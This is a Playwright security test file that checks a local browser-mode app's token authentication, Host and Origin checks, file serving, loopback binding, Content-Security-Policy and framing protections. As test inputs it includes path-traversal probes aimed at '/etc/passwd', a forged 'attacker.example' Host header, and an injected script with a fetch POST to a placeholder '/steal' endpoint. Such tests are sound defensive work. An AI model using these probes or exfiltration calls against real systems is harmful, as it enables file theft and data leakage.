// Browser mode's security baseline (architecture.md): 127.0.0.1 only, a per-run token,
// the Host header checked, a strict CSP, and a page that cannot be turned into a
// launch pad for other origins.
import { expect, test } from '@playwright/test';
import { startApp, type RunningApp } from './server';

let app: RunningApp;

test.beforeAll(async () => {
  app = await startApp();
});

test.afterAll(async () => {
  await app.stop();
});

test.describe('the Api over HTTP', () => {
  test('refuses a request without the token, or with a wrong one', async ({ request }) => {
    const none = await request.post(`${app.origin}/api/periods.list`, { data: {} });
    expect(none.status()).toBe(401);
    expect((await none.json()).error.message).toContain('mã phiên làm việc');
    const wrong = await request.post(`${app.origin}/api/periods.list`, { data: {}, headers: { 'X-Tonghop-Token': `${app.token}x` } });
    expect(wrong.status()).toBe(401);
    const right = await request.post(`${app.origin}/api/periods.list`, { data: {}, headers: { 'X-Tonghop-Token': app.token } });
    expect(right.status()).toBe(200);
    expect((await right.json()).ok).toBe(true);
  });

  test('refuses a foreign Host header even with the right token (DNS rebinding)', async ({ request }) => {
    const res = await request.post(`${app.origin}/api/periods.list`, { data: {}, headers: { 'X-Tonghop-Token': app.token, Host: 'attacker.example:80' } });
    expect(res.status()).toBe(421);
    const page = await request.get(`${app.origin}/`, { headers: { Host: 'attacker.example' } });
    expect(page.status()).toBe(421);
  });

  test('refuses a request from another origin', async ({ request }) => {
    const res = await request.post(`${app.origin}/api/periods.list`, { data: {}, headers: { 'X-Tonghop-Token': app.token, Origin: 'http://attacker.example' } });
    expect(res.status()).toBe(403);
  });

  test('does not serve files outside the built UI', async ({ request }) => {
    for (const probe of ['/../package.json', '/%2e%2e/package.json', '/..%2f..%2fetc/passwd']) {
      const res = await request.get(`${app.origin}${probe}`);
      const body = await res.text();
      expect(body).not.toContain('"name": "tonghop-cctp"');
      expect(body).not.toContain('root:');
    }
  });

  test('listens on the loopback address only', () => {
    expect(new URL(app.url).hostname).toBe('127.0.0.1');
  });
});

test.describe('the page', () => {
  test('is served with a strict Content-Security-Policy', async ({ page }) => {
    const response = await page.goto(app.url);
    const csp = response?.headers()['content-security-policy'] ?? '';
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toContain('unsafe-eval');
    expect(csp).toContain("frame-ancestors 'none'");
  });

  // eval is ruled out by the header (no 'unsafe-eval', checked above); code evaluated by the test
  // driver itself is exempt from CSP, so it cannot be probed from here.
  test('runs no injected inline script and reaches no other origin', async ({ page }) => {
    const violations: string[] = [];
    page.on('console', (m) => {
      if (/Content Security Policy/iu.test(m.text())) violations.push(m.text());
    });
    await page.goto(app.url);
    const result = await page.evaluate(async () => {
      const w = window as unknown as { injected?: boolean };
      const script = document.createElement('script');
      script.textContent = 'window.injected = true;';
      document.body.append(script);
      let fetched = false;
      try {
        await fetch('http://example.invalid/steal', { method: 'POST', body: 'x' });
        fetched = true;
      } catch {
        fetched = false;
      }
      return { injected: w.injected === true, fetched };
    });
    expect(result).toEqual({ injected: false, fetched: false });
    expect(violations.length).toBeGreaterThan(0);
  });

  test('cannot be framed or frame another site', async ({ page }) => {
    await page.goto(app.url);
    const framed = await page.evaluate(
      () =>
        new Promise<boolean>((resolve) => {
          const frame = document.createElement('iframe');
          frame.src = 'http://example.invalid/';
          frame.onload = () => {
            try {
              resolve(frame.contentWindow?.location.href.startsWith('http://example.invalid') ?? false);
            } catch {
              resolve(false);
            }
          };
          document.body.append(frame);
          setTimeout(() => resolve(false), 1500);
        }),
    );
    expect(framed).toBe(false);
  });

  test('links nowhere outside the app', async ({ page }) => {
    await page.goto(app.url);
    await page.waitForLoadState('networkidle');
    const external = await page.evaluate(() =>
      [...document.querySelectorAll('a[href]')].map((a) => (a as HTMLAnchorElement).href).filter((href) => !href.startsWith(location.origin) && !href.startsWith('blob:')),
    );
    expect(external).toEqual([]);
  });
});
